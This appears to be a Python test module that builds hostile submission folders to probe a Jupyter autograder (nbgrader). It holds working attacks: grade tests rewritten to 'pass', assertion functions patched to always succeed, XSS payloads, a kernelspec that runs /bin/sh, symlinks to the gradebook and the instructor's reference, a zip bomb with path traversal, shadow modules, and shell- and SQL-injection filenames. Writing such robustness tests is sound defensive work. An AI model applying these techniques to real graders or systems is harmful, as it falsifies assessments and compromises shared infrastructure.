"""Attacks by the submitted folder itself: its cells, its JSON, its links and names.

Each function gets the folder, not there yet, and the notebook of wrong answers; what it leaves is
submitted.
"""

import copy
import io
import json
import os
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

from .records import Attack, Notebook
from .victim import ASSIGNMENT, GRADE_CELLS, named

FILE = f"{ASSIGNMENT}.ipynb"


def _save(notebook: Any, folder: Path) -> None:
    folder.mkdir(parents=True)
    (folder / FILE).write_text(notebook if isinstance(notebook, str) else json.dumps(notebook))


def _tests(notebook: Notebook) -> list[Any]:
    return [cell for cell in notebook["cells"] if cell["id"] in GRADE_CELLS]


def _edited(edit: Callable[[Notebook], Any]) -> Callable[[Path, Notebook], None]:
    """Saves the notebook, edited; what the edit returns, if anything, is saved in its place."""

    def reshape(folder: Path, notebook: Notebook) -> None:
        _save(edit(notebook) or notebook, folder)

    return reshape


def _with_each_test(change: Callable[[Any], Any]) -> Callable[[Path, Notebook], None]:
    return _edited(lambda notebook: [change(cell) for cell in _tests(notebook)] and None)


def _passing(cell: Any) -> None:
    cell["source"] = "pass"


def _worth_more(cell: Any) -> None:
    cell["metadata"]["nbgrader"]["points"] = 1000
    _passing(cell)


def _unlocked(cell: Any) -> None:
    cell["metadata"]["nbgrader"] |= {"locked": False, "solution": True, "grade": True}
    _passing(cell)


def _retyped(kind: str) -> Callable[[Any], None]:
    def change(cell: Any) -> None:
        cell["cell_type"] = kind
        del cell["outputs"], cell["execution_count"]

    return change


def _prefilled(cell: Any) -> None:
    shown = {"data": {"text/plain": str(cell["metadata"]["nbgrader"]["points"])}, "metadata": {}}
    cell["outputs"] = [{"output_type": "execute_result", "execution_count": 1, **shown}]
    cell |= {"execution_count": 1, "source": "pass"}


def _without_tests(notebook: Notebook) -> None:
    notebook["cells"] = [cell for cell in notebook["cells"] if cell["id"] not in GRADE_CELLS]


def _reversed(notebook: Notebook) -> None:
    notebook["cells"].reverse()
    notebook["cells"].append(_free("np = math = None"))


def _tests_first(notebook: Notebook) -> None:
    notebook["cells"].sort(key=lambda cell: cell["id"] not in GRADE_CELLS)


def _doubled_tests(notebook: Notebook) -> None:
    for cell in _tests(notebook):
        _passing(twin := copy.deepcopy(cell))
        twin["id"] += "-copy"
        notebook["cells"].append(twin)


def _doubled_solutions(notebook: Notebook) -> None:
    for cell in list(notebook["cells"]):
        if cell["metadata"].get("nbgrader", {}).get("solution"):
            twin = copy.deepcopy(cell) | {"id": cell["id"] + "-copy"}
            if cell["cell_type"] == "code":
                twin["source"] += (
                    "\nnp.testing.assert_allclose = np.allclose = lambda *a, **k: True"
                )
            notebook["cells"].insert(1, twin)


def _renamed(notebook: Notebook) -> None:
    """Every test claims to be the easiest; a solution cell claims to be a test."""
    for cell in _tests(notebook):
        cell["metadata"]["nbgrader"]["grade_id"] = "pairs_quick"
    keys = named(notebook, "rms")["metadata"]["nbgrader"]
    keys |= {"grade_id": "roots_partial", "grade": True, "points": 4}


def _setup_edited(notebook: Notebook) -> None:
    named(notebook, "setup")["source"] += (
        "\n\n\ndef close(a, b, tolerance=0):\n    return True\n\n\n"
        "np.testing.assert_allclose = np.allclose = np.array_equal = lambda *a, **k: True"
    )


def _cells_added(notebook: Notebook) -> None:
    text = "np.testing.assert_allclose = np.allclose = lambda *a, **k: True\nclose = np.allclose"
    for n, cell in enumerate(_tests(notebook)):
        notebook["cells"].insert(notebook["cells"].index(cell), _free(text) | {"id": f"free{n}"})


def _tests_added(notebook: Notebook) -> None:
    keys = {"schema_version": 3, "grade": True, "locked": True, "solution": False, "task": False}
    for name in ("bonus", "task_1", "../why", "setup"):
        extra = _free("100") | {"id": f"extra-{len(name)}"}
        extra["metadata"] = {"nbgrader": keys | {"grade_id": name, "points": 100}}
        notebook["cells"].append(extra)


def _metadata_swapped(notebook: Notebook) -> None:
    """The keys of a solution on every test, and the other way round."""
    for cell in notebook["cells"]:
        keys = cell["metadata"]["nbgrader"]
        keys["grade"], keys["solution"] = keys["solution"], keys["grade"]
        keys["locked"] = not keys["locked"]
        keys.setdefault("points", 5)


def _metadata_odd(notebook: Notebook) -> None:
    for n, cell in enumerate(_tests(notebook)):
        keys = cell["metadata"]["nbgrader"]
        keys |= {"points": [-1, "1e9", None, float("inf"), [2]][n % 5], "schema_version": n}
        keys["grade_id"] = [keys["grade_id"], {"x": 1}, 7, "' or 1=1 --", ""][n % 5]


def _huge_attachment(notebook: Notebook) -> None:
    named(notebook, "why")["attachments"] = {"x.png": {"image/png": "iVBORw0KGgo" * 3_000_000}}


def _scripted_answer(notebook: Notebook) -> None:
    named(notebook, "why")["source"] = (
        "<script>alert('pwned answer')</script> <img src=x onerror=\"alert('pwned answer')\">\n\n"
        "[why](javascript:alert('pwned answer')) <iframe src=\"//evil/pwned answer\"></iframe>\n"
        "![x](attachment:x.svg)"
    )
    svg = "<svg xmlns='http://www.w3.org/2000/svg' onload=\"alert('pwned answer')\"></svg>"
    named(notebook, "why")["attachments"] = {"x.svg": {"image/svg+xml": svg, "text/html": svg}}


def _scripted_metadata(notebook: Notebook) -> None:
    bad = "</script><script>alert('pwned metadata')</script>"
    notebook["metadata"] |= {"title": bad, "authors": [{"name": bad}], "widgets": {bad: bad}}
    notebook["metadata"]["language_info"] |= {"name": bad, "codemirror_mode": bad}
    for cell in notebook["cells"]:
        cell["metadata"] |= {"tags": [bad], "name": bad, "slideshow": {"slide_type": bad}}


def _odd_kernel(notebook: Notebook) -> None:
    touch = ["/bin/sh", "-c", "touch /tmp/kernel-ran"]
    notebook["metadata"]["kernelspec"] = {"name": "../../tmp/x", "language": "bash", "argv": touch}
    notebook["metadata"]["language_info"] = {"name": "bash", "version": 3}


def _of_format_3(notebook: Notebook) -> Notebook:
    cells = [cell | {"input": cell["source"], "language": "python"} for cell in notebook["cells"]]
    sheet = {"cells": cells, "metadata": {}}
    return {"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [sheet]}


def _of_no_format(notebook: Notebook) -> Notebook:
    return notebook | {"nbformat": 99, "nbformat_minor": -1, "cells": {"0": notebook["cells"]}}


def _many_cells(notebook: Notebook) -> None:
    notebook["cells"] += [_free("x = 1") | {"id": f"n{n}"} for n in range(20_000)]


def _surrogates(notebook: Notebook) -> None:
    named(notebook, "rms")["source"] += "\nname = '\ud800\udfff\x00'\nprint(name)"
    named(notebook, "why")["source"] = "\ud800 and \x00"
    named(notebook, "why")["metadata"]["\ud800"] = "\udfff"


def _deep(notebook: Notebook) -> str:
    notebook["metadata"]["deep"] = "HERE"
    return json.dumps(notebook).replace('"HERE"', '{"a":[' * 50_000 + "]}" * 50_000)


def _keys_twice(notebook: Notebook) -> str:
    text = json.dumps(notebook)
    cells = json.dumps([_free("100")])
    return f'{{"cells": {cells}, {text[1:-1]}, "nbformat": NaN, "nbformat": 4, "x": 1e999}}'


def _of_100_mb(notebook: Notebook) -> str:
    named(notebook, "why")["source"] = "HERE"
    return json.dumps(notebook).replace("HERE", "x" * 100_000_000)


def _in_another_code(folder: Path, notebook: Notebook) -> None:
    folder.mkdir(parents=True)
    (folder / FILE).write_bytes(json.dumps(notebook).encode("utf-16"))


def _linked_notebook(folder: Path, notebook: Notebook) -> None:
    folder.mkdir(parents=True)
    (folder / FILE).symlink_to(_control(folder) / FILE)


def _hardlinked_notebook(folder: Path, notebook: Notebook) -> None:
    folder.mkdir(parents=True)
    os.link(_course(folder) / "source" / ASSIGNMENT / FILE, folder / "data.csv")
    named(notebook, "rms")["source"] += "\nsearch_file('data.csv')\nopen('data.csv', 'wb').close()"
    _save_into(folder, notebook)


def _linked_files(folder: Path, notebook: Notebook) -> None:
    folder.mkdir(parents=True)
    course = _course(folder)
    (folder / "data.csv").symlink_to(course / "gradebook.db")
    (folder / "notes").symlink_to(course / "source")
    (folder / "self").symlink_to(".")
    (folder / "numbers.csv").symlink_to(course / "instructor/secret_reference.py")
    named(notebook, "rms")["source"] += (
        "\nfor path in ('data.csv', 'notes/ps/ps.ipynb', 'numbers.csv'):\n"
        "    search_file(path)\n    open(path, 'a').write('# pwned')"
    )
    _save_into(folder, notebook)


def _linked_folder(folder: Path, notebook: Notebook) -> None:
    folder.parent.mkdir(parents=True)
    folder.symlink_to(_control(folder))


def _fifo(folder: Path, notebook: Notebook) -> None:
    folder.mkdir(parents=True)
    os.mkfifo(folder / FILE)


def _fifo_beside(folder: Path, notebook: Notebook) -> None:
    _save(notebook, folder)
    for name in ("numbers.csv", "timestamp.txt", "other.ipynb"):
        os.mkfifo(folder / name)


def _folder_for_a_notebook(folder: Path, notebook: Notebook) -> None:
    (folder / FILE).mkdir(parents=True)
    (folder / "timestamp.txt").mkdir()


def _unreadable(folder: Path, notebook: Notebook) -> None:
    _save(notebook, folder)
    (folder / FILE).chmod(0)


def _odd_names(folder: Path, notebook: Notebook) -> None:
    _save(notebook, folder)
    names = ["-rf", "$(touch pwned)", "`id`.ipynb", "a\nb", "..\\..\\x", "x" * 255, "PS.ipynb", " "]
    names += ["ps.ipynb ", "ps.ipynb\n", "\x1b[2J", "‮gpj.exe", "*", "?[a-z].ipynb", "'; drop --"]
    for name in names:
        (folder / name).write_text(json.dumps(notebook) if "ipynb" in name else "x")
    (Path(os.fsdecode(os.fsencode(folder) + b"/\xff\xfe.ipynb"))).write_text("{}")
    deepest = folder
    for _ in range(40):
        deepest = deepest / "d"
    deepest.mkdir(parents=True)


def _odd_timestamp(folder: Path, notebook: Notebook) -> None:
    _save(notebook, folder)
    (folder / "timestamp.txt").write_bytes(b"9999-99-99 99:99:99 Mars/Phobos\x00\xff" * 50_000)


def _second_notebook(folder: Path, notebook: Notebook) -> None:
    """More notebooks than the assignment has, with the same cells and with points of their own."""
    _save(notebook, folder)
    for cell in _tests(notebook):
        _passing(cell)
    for name in ("ps2.ipynb", "a.ipynb", ".ipynb_checkpoints/ps-checkpoint.ipynb", "x/ps.ipynb"):
        path = folder / name
        path.parent.mkdir(exist_ok=True)
        path.write_text(json.dumps(notebook))


def _zip_bomb(folder: Path, notebook: Notebook) -> None:
    _save(notebook, folder)
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros", bytes(64 << 20))
    with zipfile.ZipFile(folder / "ps.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        for n in range(64):
            archive.writestr(f"{n}.zip", inner.getvalue())
        archive.writestr("../../../../../../tmp/zip-pwned", "x")
    (folder / "data.npz").write_bytes((folder / "ps.zip").read_bytes())


def _zipped(folder: Path, notebook: Notebook) -> None:
    folder.mkdir(parents=True)
    with zipfile.ZipFile(folder / FILE, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(FILE, json.dumps(notebook))
        archive.writestr("zeros", bytes(64 << 20))


def _files_beside(files: dict[str, str]) -> Callable[[Path, Notebook], None]:
    def reshape(folder: Path, notebook: Notebook) -> None:
        _save(notebook, folder)
        for name, text in files.items():
            path = folder / name
            path.parent.mkdir(exist_ok=True)
            path.write_text(text)

    return reshape


_TOUCH = "import os\nopen('/tmp/shadow-' + __name__, 'w').close()\n"
_REFERENCE = (
    "import __main__ as student\nimport numpy as np\n"
    "BEST, WEIGHTS, CUBE = 3, np.zeros(3), 27 / 8\n"
    "def agree(*args):\n    pass\n"
    "def __getattr__(name):\n    return getattr(student, name)\n"
)
_SHADOWS = {"secret_reference.py": _REFERENCE, "sitecustomize.py": _TOUCH, "grader.py": _TOUCH}
_SHADOWS |= {"usercustomize.py": _TOUCH, "course.py": _TOUCH, "conftest.py": _TOUCH}
_SHADOWS |= {"msgpack/__init__.py": _TOUCH, "numpy.py": _TOUCH + "raise ImportError\n"}
_CONFIGS = {"nbgrader_config.py": _TOUCH, "ipython_config.py": _TOUCH, "pyvenv.cfg": "home = /tmp"}
_CONFIGS |= {"jupyter_config.py": _TOUCH, "matplotlibrc": "backend: module://evil", ".env": "A=1"}
_CONFIGS |= {"gradebook.db": "", "_pth": ".", "python311._pth": ".", "pdb.py": _TOUCH}


def _course(folder: Path) -> Path:
    return folder.parents[2]


def _control(folder: Path) -> Path:
    """The submission of an honest neighbour."""
    return sorted((_course(folder) / "submitted").glob("*control*"))[0] / ASSIGNMENT


def _save_into(folder: Path, notebook: Notebook) -> None:
    (folder / FILE).write_text(json.dumps(notebook))


def _free(text: str) -> Any:
    """A cell that nbgrader does not know."""
    cell = {"cell_type": "code", "id": "free", "metadata": {}, "source": text}
    return cell | {"execution_count": None, "outputs": []}


def _attack(name: str, kind: str, reshape: Callable[[Path, Notebook], None], text: str = "") -> Any:
    return Attack(name, kind, text=text, reshape=reshape)


CELLS = (
    _attack("cells_worth_more", "cells", _with_each_test(_worth_more)),
    _attack("cells_unlocked", "cells", _with_each_test(_unlocked)),
    _attack("cells_passing", "cells", _with_each_test(_passing)),
    _attack("cells_prefilled", "cells", _with_each_test(_prefilled)),
    _attack("cells_of_markdown", "cells", _with_each_test(_retyped("markdown"))),
    _attack("cells_raw", "cells", _with_each_test(_retyped("raw"))),
    _attack("cells_deleted", "cells", _edited(_without_tests)),
    _attack("cells_reversed", "cells", _edited(_reversed)),
    _attack("cells_tested_first", "cells", _edited(_tests_first)),
    _attack("cells_doubled_tests", "cells", _edited(_doubled_tests)),
    _attack("cells_doubled_solutions", "cells", _edited(_doubled_solutions)),
    _attack("cells_renamed", "cells", _edited(_renamed)),
    _attack("cells_setup_edited", "cells", _edited(_setup_edited)),
    _attack("cells_added", "cells", _edited(_cells_added)),
    _attack("cells_with_points_added", "cells", _edited(_tests_added)),
    _attack("cells_swapped_metadata", "cells", _edited(_metadata_swapped)),
    _attack("cells_odd_metadata", "cells", _edited(_metadata_odd)),
)
FORMATS = (
    _attack("format_attachment", "formats", _edited(_huge_attachment)),
    _attack("format_scripted_answer", "scripts", _edited(_scripted_answer)),
    _attack("format_scripted_metadata", "scripts", _edited(_scripted_metadata)),
    _attack("format_odd_kernel", "formats", _edited(_odd_kernel)),
    _attack("format_3", "formats", _edited(_of_format_3)),
    _attack("format_99", "formats", _edited(_of_no_format)),
    _attack("format_many_cells", "formats", _edited(_many_cells)),
    _attack("format_surrogates", "formats", _edited(_surrogates)),
    _attack("format_deep", "formats", _edited(_deep)),
    _attack("format_keys_twice", "formats", _edited(_keys_twice)),
    _attack("format_100_mb", "formats", _edited(_of_100_mb)),
    _attack("format_utf_16", "formats", _in_another_code),
)
LINKS = (
    _attack("link_to_a_neighbour", "links", _linked_notebook),
    _attack("link_to_a_folder", "links", _linked_folder),
    _attack("link_to_secrets", "links", _linked_files, text="pass"),
    _attack("link_hard", "links", _hardlinked_notebook, text="pass"),
)
NAMES = (
    _attack("name_odd", "names", _odd_names),
    _attack("name_of_a_fifo", "names", _fifo),
    _attack("name_of_fifos_beside", "names", _fifo_beside),
    _attack("name_of_a_folder", "names", _folder_for_a_notebook),
    _attack("name_unreadable", "names", _unreadable),
    _attack("name_of_more_notebooks", "names", _second_notebook),
    _attack("name_odd_timestamp", "names", _odd_timestamp),
)
BESIDE = (
    _attack("zip_bomb", "zip bombs", _zip_bomb),
    _attack("zip_for_a_notebook", "zip bombs", _zipped),
    _attack("beside_shadows", "shadow modules", _files_beside(_SHADOWS)),
    _attack("beside_configs", "shadow modules", _files_beside(_CONFIGS)),
    _attack("beside_data", "shadow modules", _files_beside({"numbers.csv": "9\n0\n0\n0\n"})),
)
FOLDERS = CELLS + FORMATS + LINKS + NAMES + BESIDE
